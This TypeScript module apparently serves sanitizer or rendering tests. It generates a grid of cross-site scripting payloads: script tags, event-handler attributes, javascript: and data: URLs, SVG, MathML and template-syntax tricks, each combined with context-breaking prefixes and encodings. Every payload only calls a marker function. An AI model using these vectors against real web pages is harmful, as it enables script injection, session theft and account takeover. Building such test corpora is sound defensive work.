// Texts that try to become markup or a script. Each calls `hit(number)` if it ever runs, and every
// element it would make carries `data-hit`, so that a page shows both what ran and what only became
// markup.

/** What a payload does when it runs. */
const call = (number: number) => `hit(${number})`;

/** Elements and attributes that run by themselves. */
const vectors: readonly ((code: string) => string)[] = [
  (code) => `<script data-hit>${code}</script>`,
  (code) => `<script data-hit src="data:text/javascript,${code}"></script>`,
  (code) => `<script data-hit type=module>${code}</script>`,
  (code) => `<img data-hit src=x onerror=${code}>`,
  (code) => `<img data-hit src=x:x onerror="${code}"//`,
  (code) => `<svg data-hit onload=${code}>`,
  (code) => `<svg data-hit><script>${code}</script></svg>`,
  (code) => `<svg data-hit><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg data-hit><a xlink:href="javascript:${code}"><text y=9>x</text></a></svg>`,
  (code) => `<math data-hit><mtext><style><img data-hit src=x onerror=${code}></style>`,
  (code) => `<body data-hit onload=${code}>`,
  (code) => `<iframe data-hit srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe data-hit src="javascript:parent.${code}"></iframe>`,
  (code) => `<object data-hit data="javascript:${code}"></object>`,
  (code) => `<embed data-hit src="javascript:${code}">`,
  (code) => `<video data-hit><source onerror=${code}></video>`,
  (code) => `<audio data-hit src=x onerror=${code}></audio>`,
  (code) => `<details data-hit open ontoggle=${code}>x</details>`,
  (code) => `<input data-hit autofocus onfocus=${code}>`,
  (code) => `<select data-hit autofocus onfocus=${code}></select>`,
  (code) => `<marquee data-hit onstart=${code}>x</marquee>`,
  (code) => `<a data-hit href="javascript:${code}">x</a>`,
  (code) => `<form data-hit action="javascript:${code}"><button>x</button></form>`,
  (code) => `<button data-hit formaction="javascript:${code}">x</button>`,
  (code) => `<meta data-hit http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base data-hit href="javascript:${code}//">`,
  (code) => `<link data-hit rel=stylesheet href="javascript:${code}">`,
  (code) =>
    `<style data-hit>@import 'javascript:${code}';*{background:url(javascript:${code})}</style>`,
  (code) => `<div data-hit style="animation:x 1s" onanimationstart=${code}>x</div>`,
  (code) => `<template data-hit><script>${code}</script></template>`,
  (code) => `<noscript><p title="</noscript><img data-hit src=x onerror=${code}>">`,
  (code) => `<ScRiPt data-hit>${code}</sCrIpT>`,
  (code) => `<img/data-hit/src=x/onerror=${code}>`,
  (code) => `<xss data-hit id=x tabindex=1 onfocus=${code}>#x`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => `[x](javascript:${code}) ![x](x" onerror="${code})`,
  (code) => `\${${code}} {{${code}}} <%= ${code} %> #{${code}}`,
];

/** Where a text may stand: each closes another thing before it begins. */
const openings: readonly string[] = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</svg>',
  '"; ',
  '\\"); ',
  '&quot;&gt;',
  '\u2028',
];

/** How a text may be written. */
const writings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
];

/** The first `count` payloads; neighbours differ in each: vectors × openings × writings. */
export function payloads(count: number): readonly string[] {
  const all = vectors.length * openings.length * writings.length;
  // A step without a common factor meets each combination once before it meets any again.
  const step = 1009;
  return Array.from({ length: Math.min(count, all) }, (_, number) => {
    const place = (number * step) % all;
    const vector = vectors[place % vectors.length];
    const opening = openings[Math.floor(place / vectors.length) % openings.length] ?? '';
    const writing = writings[Math.floor(place / vectors.length / openings.length)];
    return writing?.(opening + (vector?.(call(number)) ?? '')) ?? '';
  });
}
